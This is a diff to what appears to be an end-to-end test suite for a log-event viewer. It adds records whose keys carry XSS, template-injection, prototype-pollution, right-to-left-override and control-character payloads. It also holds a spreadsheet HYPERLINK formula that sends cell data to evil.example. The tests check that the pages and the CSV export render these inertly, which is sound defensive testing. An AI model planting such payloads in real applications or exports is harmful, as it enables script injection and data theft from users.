@@ -13,6 +13,9 @@ const braces = '{{constructor.constructor("alert(1)")()}}';
 const turned = 'abc\u202egnp.exe';
 const control = '\u001b[31mred\u0007\u0000\u0085\u2028';
 const formula = "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")";
+// Keys of a record become names of properties where a person's own source type says so (content/hostile).
+const keys = [image, script, link, braces, turned, control, '=1+1', '"onmouseover="alert(1)', '__proto__', 'constructor', "'><svg onclick=alert(1)>", '日本'];
+const record = (): string => `{"hostile":"1","user":"keys",${keys.map((k, i) => `${JSON.stringify(k)}:"value ${i}"`).join(',')}}`;
 const lines = (): string[] => {
   const now = new Date().toISOString();
   return [
@@ -23,6 +26,7 @@ const lines = (): string[] => {
     `<86>1 ${now} bastion<b>01 sshd 42 - - Accepted password for ${image} from 198.51.100.7 port 4100 ssh2`,
     // A message that a spreadsheet would run.
     `${formula}`,
+    record(),
   ];
 };
 
@@ -126,6 +130,26 @@ test('on the overview, the sources, the ledger and the pages of an address, a us
     if (text) await expect(page.locator('body')).toContainText(text);
     await harmless(page);
   }
+});
+
+test('a property\'s name, wherever it is shown', async ({ context, page, server }) => {
+  const [found] = await rows(context, server, "SELECT eventid FROM events WHERE username = 'keys' LAST 1 HOURS");
+  await page.goto(`${server.url}/event/${String(found![0])}`);
+  await expect(page.getByTestId('payload')).toContainText('value 11');
+  // What turns text around or drives a terminal becomes no name; the payload has it.
+  for (const text of [image, script, link, '{{constructor.constructor(', '=1+1', '__proto__', 'constructor', '日本']) await expect(page.locator('dl, table').filter({ hasText: text }).first()).toBeVisible();
+  await harmless(page);
+  // As a column, and as what the editor completes.
+  const names = [image, script, link, '=1+1', '__proto__', 'constructor', '日本'].map((k) => `"${k.replaceAll('"', '""')}"`).join(', ');
+  await page.goto(`${server.url}/search?${new URLSearchParams({ q: `SELECT ${names} FROM events WHERE username = 'keys'`, last: '1h' })}`);
+  await expect(page.getByTestId('grid')).toHaveAttribute('data-rows', '1');
+  for (const text of [image, script, 'value 11']) await expect(page.getByTestId('grid')).toContainText(text);
+  await harmless(page);
+  await page.getByRole('button', { name: 'Export' }).click();
+  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('menuitem', { name: 'All rows as CSV' }).click()]);
+  const head = readFileSync(await download.path(), 'utf8').split('\r\n')[0]!;
+  expect(head).toContain("'=1+1");
+  expect(head).not.toMatch(/(^|,)"?[=+@]/);
 });
 
 test('a link\'s own words are text, and it leads nowhere else', async ({ complaints, page, server }) => {
